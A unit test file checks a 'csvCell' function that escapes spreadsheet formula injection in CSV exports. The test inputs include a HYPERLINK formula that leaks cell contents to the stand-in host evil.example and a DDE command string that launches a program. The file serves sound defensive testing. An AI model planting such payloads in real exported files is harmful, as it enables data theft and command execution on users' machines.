import { describe, expect, it } from "vitest";
import { csvCell } from "./csv-cell.js";

describe("csvCell", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["-2+3", "'-2+3"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r=1+1", `"'\r=1+1"`],
  ])("makes the formula %j text", (value, cell) => {
    expect(csvCell(value)).toBe(cell);
  });

  it("leaves plain values and numbers as they are, quoting only what needs it", () => {
    expect(csvCell("902B4FF5")).toBe("902B4FF5");
    expect(csvCell("10.42")).toBe("10.42");
    expect(csvCell("-10.42")).toBe("-10.42");
    expect(csvCell("a,b")).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell("")).toBe("");
  });
});
